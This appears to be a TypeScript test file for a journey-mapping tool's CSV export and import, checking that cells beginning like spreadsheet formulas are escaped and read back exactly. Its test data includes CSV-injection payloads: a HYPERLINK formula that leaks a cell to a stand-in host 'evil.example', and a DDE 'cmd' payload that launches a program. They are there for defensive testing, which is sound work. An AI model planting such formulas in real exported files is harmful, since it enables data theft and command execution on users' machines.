import { readFile } from "node:fs/promises";
import {
  createCard,
  createJourneyMap,
  getTemplate,
  type JourneyMap,
  LANE_KIND_TITLES,
  type Lane,
  LIMITS,
  parseJourneyMap,
} from "@journeykit/core";
import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { journeyMapArbitrary } from "../../../core/test/arbitraries.js";
import { cardsCsv } from "../../test/hostile/recipes.js";
import { escapeCsvText, unescapeCsvText } from "./csv-injection.js";
import { fromCsv } from "./from-csv.js";
import { toCsv } from "./to-csv.js";

const runs = process.env.CI ? 200 : 60;
const nasty = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.constantFrom(
    "=1+2",
    "'=already quoted",
    "''+twice",
    "-2",
    "+33 6 12",
    "@SUM(A1)",
    "\tindented",
    "\r\nnew line first",
    " leading and trailing ",
    'a,b "quoted"\nsecond line',
    "'plain apostrophe",
  ),
);

/** Starts of ids a spreadsheet would run as formulas (or that only look escaped). */
const hostileIdStart = fc.constantFrom(
  "",
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  "+",
  "-",
  "@SUM(1)",
  "\t",
  "\r",
  "'=",
  "''+",
  " spaced ",
  "a,b\n",
);

/**
 * The arbitrary's maps, with card texts, tags, ratings and evidence that stress the CSV, and card and
 * touchpoint ids that start like formulas (every reference to a touchpoint follows its new id).
 */
const csvMapArbitrary = fc
  .tuple(
    journeyMapArbitrary,
    fc.array(nasty, { minLength: 12, maxLength: 12 }),
    fc.array(nasty, { maxLength: 3 }),
    fc.array(hostileIdStart, { minLength: 12, maxLength: 12 }),
  )
  .map(([map, texts, tags, idStarts]) => {
    map.cards.forEach((card, i) => {
      card.text = texts[i % texts.length]!;
      card.id = `${idStarts[i]}card${i}`;
      if (i % 2 === 1) card.tags = tags;
      if (i % 3 === 1) Object.assign(card, { impact: 4, effort: 2, evidence: "observed" });
    });
    const touchpointIds = new Map(map.touchpoints.map((t, i) => [t.id, `${idStarts[11 - i]}tp${i}`]));
    for (const record of [
      ...map.cards,
      ...map.emotions,
      ...map.momentsOfTruth,
      ...map.metrics,
      ...map.quotes,
    ])
      if (record.touchpointId !== undefined)
        record.touchpointId = touchpointIds.get(record.touchpointId) ?? record.touchpointId;
    for (const touchpoint of map.touchpoints) touchpoint.id = touchpointIds.get(touchpoint.id)!;
    return map;
  });

/** Every cell of a CSV, header included, as papaparse reads it. */
const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();

/** A lane written with a blank title comes back with its kind's default title. */
const laneTitle = (lane: Lane) => lane.title.trim() || LANE_KIND_TITLES[lane.kind];
const projection = (map: JourneyMap) =>
  map.cards.map((card) => ({
    id: card.id,
    text: card.text,
    stage: map.stages.find((s) => s.id === card.stageId)!.name.trim() || "Unsorted",
    lane: laneTitle(map.lanes.find((l) => l.id === card.laneId)!),
    kind: map.lanes.find((l) => l.id === card.laneId)!.kind,
    persona: map.personas.find((p) => p.id === card.personaId)?.name ?? "",
    touchpoint: map.touchpoints.find((t) => t.id === card.touchpointId)?.name ?? "",
    numbers: [card.severity, card.impact, card.effort, card.votes],
    evidence: card.evidence,
    // In a new map, the tags cell is split on ";" and trimmed.
    tags: (card.tags ?? [])
      .flatMap((t) => t.split(";"))
      .map((t) => t.trim())
      .filter(Boolean),
  }));

describe("CSV injection escaping", () => {
  it("prefixes formula-like text and undoes it exactly, for any string", () => {
    expect(["=1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "x=1", "'x"].map(escapeCsvText)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@x",
      "'\tx",
      "'\rx",
      "''=x",
      "x=1",
      "'x",
    ]);
    fc.assert(
      fc.property(fc.oneof(fc.string(), nasty), (text) => {
        expect(unescapeCsvText(escapeCsvText(text))).toBe(text);
        expect(escapeCsvText(text)).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500 },
    );
  });
});

describe("toCsv / fromCsv", () => {
  it("leaves no cell in any column starting like a formula, ids included (property)", () => {
    const hostile = fc.oneof(
      nasty,
      hostileIdStart.map((start) => `${start}x`),
    );
    fc.assert(
      fc.property(csvMapArbitrary, fc.array(hostile, { minLength: 6, maxLength: 6 }), (map, names) => {
        for (const stage of map.stages) stage.name = names[0]!;
        for (const lane of map.lanes) lane.title = names[1]!;
        for (const persona of map.personas) persona.name = names[2]!;
        for (const touchpoint of map.touchpoints)
          Object.assign(touchpoint, { name: names[3]!, owner: names[4]!, description: names[5]! });
        for (const kind of ["cards", "touchpoints"] as const)
          for (const cell of cells(toCsv(map, { kind }))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: runs },
    );
  });

  it("escapes a formula in the id column and reads the id back exactly", () => {
    const map = createJourneyMap({ title: "T" });
    const id = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    map.cards.push(createCard({ id, laneId: map.lanes[0]!.id, stageId: map.stages[0]!.id, text: "x" }));
    const csv = toCsv(map);
    expect(Papa.parse<string[]>(csv).data[1]![0]).toBe(`'${id}`);
    const fresh = fromCsv(csv);
    expect(fresh.ok && fresh.map.cards.map((c) => c.id)).toEqual([id]);
    const merged = fromCsv(csv, { map });
    expect(merged.ok && merged.map).toEqual(map);
  });

  it("accepts a one-column CSV (text only): cards land in an Unsorted stage and a Notes lane", () => {
    const result = fromCsv("text\nQueue too long\n=1+2\n'=quoted\n");
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(result.map.cards.map((c) => c.text)).toEqual(["Queue too long", "=1+2", "=quoted"]);
    expect(result.map.stages.map((s) => s.name)).toEqual(["Unsorted"]);
    expect(result.map.lanes.map((l) => [l.kind, l.title])).toEqual([["notes", LANE_KIND_TITLES.notes]]);
    const touchpoints = fromCsv("name,channel\nKiosk,in-store\n");
    expect(touchpoints.ok && touchpoints.map.touchpoints.map((t) => t.name)).toEqual(["Kiosk"]);
  });

  it("merging a map's own CSV into it gives the map back (property)", () => {
    fc.assert(
      fc.property(csvMapArbitrary, (map) => {
        for (const kind of ["cards", "touchpoints"] as const) {
          const back = fromCsv(toCsv(map, { kind }), { map });
          if (!back.ok) throw new Error(JSON.stringify(back.errors));
          expect(back.map).toEqual(map);
        }
      }),
      { numRuns: runs },
    );
  });

  it("a new map built from the CSV shows the same cards (property)", () => {
    fc.assert(
      fc.property(csvMapArbitrary, (map) => {
        const back = fromCsv(toCsv(map));
        if (!back.ok) throw new Error(JSON.stringify(back.errors));
        expect(projection(back.map)).toEqual(projection(map));
      }),
      { numRuns: runs },
    );
  });

  it("writes one row per card with names, escaped text and plain numbers", () => {
    const map = createJourneyMap({ title: "T" });
    const [stage] = map.stages;
    const lane = map.lanes.find((l) => l.kind === "painPoints")!;
    map.cards.push(
      createCard({
        id: "c1",
        laneId: lane.id,
        stageId: stage!.id,
        text: '=HYPERLINK("http://evil.example","click")',
        severity: 4,
        votes: 2,
        tags: ["wait", "app"],
      }),
      createCard({ id: "c2", laneId: lane.id, stageId: stage!.id, text: "line 1\nline 2, with comma" }),
    );
    const csv = toCsv(map);
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual([
      "id",
      "stage",
      "lane",
      "laneKind",
      "text",
      "persona",
      "touchpoint",
      "severity",
      "impact",
      "effort",
      "votes",
      "evidence",
      "tags",
    ]);
    expect(rows[1]).toEqual([
      "c1",
      stage!.name,
      lane.title,
      "painPoints",
      `'=HYPERLINK("http://evil.example","click")`,
      "",
      "",
      "4",
      "",
      "",
      "2",
      "",
      "wait; app",
    ]);
    expect(rows[2]![4]).toBe("line 1\nline 2, with comma");
    expect(csv.endsWith("\r\n")).toBe(true);
  });

  it("leaves negative numbers in numeric columns alone", () => {
    const result = fromCsv("text,severity,votes\n-2,2,3\n");
    expect(result.ok && result.map.cards.map((c) => [c.text, c.severity, c.votes])).toEqual([["-2", 2, 3]]);
    expect(fromCsv("text,votes\nx,-2\n")).toEqual({
      ok: false,
      errors: [{ path: "row 2, column votes", message: 'expected a whole number of votes, got "-2"' }],
    });
  });

  it("reports every bad cell by row and column and never throws", () => {
    const csv = [
      "text,stage,lane,laneKind,severity,impact,evidence,votes",
      "ok,A,Pains,painPoints,3,,,",
      "bad,A,Pains,painPoints,high,9,guessed,1.5",
      "kind,A,Odd,sideways,,,,",
    ].join("\n");
    expect(fromCsv(csv)).toEqual({
      ok: false,
      errors: [
        { path: "row 3, column votes", message: 'expected a whole number of votes, got "1.5"' },
        {
          path: "row 3, column evidence",
          message: 'expected one of assumed, observed, measured, got "guessed"',
        },
        { path: "row 3, column severity", message: 'expected an integer from 1 to 5, got "high"' },
        { path: "row 3, column impact", message: 'expected an integer from 1 to 5, got "9"' },
        {
          path: "row 4, column laneKind",
          message: expect.stringMatching(/^expected one of actions, .* got "sideways"$/),
        },
      ],
    });
    expect(fromCsv("no,useful,header\n1,2,3\n")).toMatchObject({ ok: false, errors: [{ path: "row 1" }] });
    expect(fromCsv("").ok).toBe(false);
    const many = fromCsv(`text,severity\n${"x,9\n".repeat(250)}`);
    expect(!many.ok && many.errors).toHaveLength(101);
    expect(!many.ok && many.errors[100]).toEqual({ path: "", message: "150 more problems not shown" });
    expect(fromCsv('text\n"unterminated\n').ok).toBe(false);
  });

  it("updates cards by id, clears blanked cells and creates missing stages, lanes, personas and touchpoints", () => {
    const map = getTemplate("gym-onboarding")!.create();
    const card = map.cards.find((c) => c.severity !== undefined)!;
    const csv = toCsv(map)
      .split("\r\n")
      .map((line) =>
        line.startsWith(`${card.id},`) ? line.replace(/,\d,([^,]*),([^,]*),/, ",,$1,$2,") : line,
      )
      .join("\r\n");
    const updated = fromCsv(csv, { map });
    expect(updated.ok && updated.map.cards.find((c) => c.id === card.id)?.severity).toBeUndefined();

    const added = fromCsv(
      "text,stage,lane,laneKind,persona,touchpoint\nNo towels,Night shift,Ideas,opportunities,Sam,Front desk\n",
      {
        map,
      },
    );
    if (!added.ok) throw new Error(JSON.stringify(added.errors));
    const newCard = added.map.cards.at(-1)!;
    expect(added.map.stages.find((s) => s.id === newCard.stageId)?.name).toBe("Night shift");
    expect(added.map.lanes.find((l) => l.id === newCard.laneId)).toMatchObject({
      title: "Ideas",
      kind: "opportunities",
    });
    expect(added.map.personas.find((p) => p.id === newCard.personaId)?.name).toBe("Sam");
    expect(added.map.touchpoints.find((t) => t.id === newCard.touchpointId)).toMatchObject({
      name: "Front desk",
      stageId: newCard.stageId,
      channel: "other",
    });
    expect(added.map.cards).toHaveLength(map.cards.length + 1);
  });

  it("matches stages by name ignoring case when merging hand-written rows", () => {
    const map = getTemplate("gym-onboarding")!.create();
    const stage = map.stages[1]!;
    const result = fromCsv(`text,stage\nNew idea,${stage.name.toUpperCase()}\n`, { map });
    expect(result.ok && result.map.stages).toHaveLength(map.stages.length);
    expect(result.ok && result.map.cards.at(-1)?.stageId).toBe(stage.id);
  });

  it("round-trips touchpoints with their personas", () => {
    const map = getTemplate("travel-booking")!.create();
    const csv = toCsv(map, { kind: "touchpoints" });
    expect(csv.split("\r\n")[0]).toBe("id,stage,name,channel,owner,description,personas");
    const fresh = fromCsv(csv);
    if (!fresh.ok) throw new Error(JSON.stringify(fresh.errors));
    expect(fresh.map.touchpoints.map((t) => [t.id, t.name, t.channel])).toEqual(
      map.touchpoints.map((t) => [t.id, t.name, t.channel]),
    );
    expect(fromCsv("name,channel\nKiosk,fax\n")).toEqual({
      ok: false,
      errors: [{ path: "row 2, column channel", message: expect.stringContaining('got "fax"') }],
    });
  });
});

// Sizes that took seconds to minutes when every row scanned the map (50,000 rows: 9 s); the time
// figures are in bench/importers.bench.test.ts, these tests check the result.
describe("fromCsv on the largest inputs", () => {
  // A correctness test on the largest input: under a loaded CI machine it needs more than the 5 s default.
  it("imports 50,000 rows with ids (the most cards a map holds) and merges them back unchanged", {
    timeout: 60_000,
  }, () => {
    const csv = cardsCsv(LIMITS.maxRecordsPerKind);
    const fresh = fromCsv(csv);
    if (!fresh.ok) throw new Error(JSON.stringify(fresh.errors));
    expect(fresh.map.cards).toHaveLength(LIMITS.maxRecordsPerKind);
    expect(fresh.map.cards.at(-1)).toMatchObject({
      id: "card_49999",
      text: "Card 49999, with a comma",
      votes: 5,
    });
    expect([fresh.map.stages.length, fresh.map.lanes.length, fresh.map.personas.length]).toEqual([20, 5, 3]);
    const merged = fromCsv(csv, { map: fresh.map });
    expect(merged.ok && JSON.stringify(merged.map)).toBe(JSON.stringify(fresh.map));
  });

  it("refuses more rows than a map can hold, naming the first row over the limit", () => {
    expect(fromCsv(cardsCsv(LIMITS.maxRecordsPerKind + 1))).toEqual({
      ok: false,
      errors: [{ path: "row 50002", message: "50001 rows: a map holds at most 50000 cards" }],
    });
  });
});

describe("hostile CSV inputs (test/hostile)", () => {
  const hostile = (name: string) => readFile(new URL(`../../test/hostile/${name}`, import.meta.url), "utf8");

  it("csv-formula-ids: no cell of either CSV starts like a formula, and both read back exactly", async () => {
    const parsed = parseJourneyMap(await hostile("csv-formula-ids.journey.json"));
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
    const map = parsed.map;
    for (const kind of ["cards", "touchpoints"] as const) {
      const csv = toCsv(map, { kind });
      for (const cell of cells(csv)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const merged = fromCsv(csv, { map });
      expect(merged.ok && merged.map).toEqual(map);
    }
    const fresh = fromCsv(toCsv(map));
    expect(fresh.ok && fresh.map.cards.map((c) => c.id)).toEqual(map.cards.map((c) => c.id));
  });

  it("csv-one-column: a text-only CSV gives one card per row in Unsorted / Notes", async () => {
    const result = fromCsv(await hostile("csv-one-column.csv"));
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(result.map.cards.map((c) => c.text)).toEqual([
      "Queue too long at the counter",
      "App crashed at payment",
      "Staff, friendly",
    ]);
    expect(result.map.stages.map((s) => s.name)).toEqual(["Unsorted"]);
  });
});
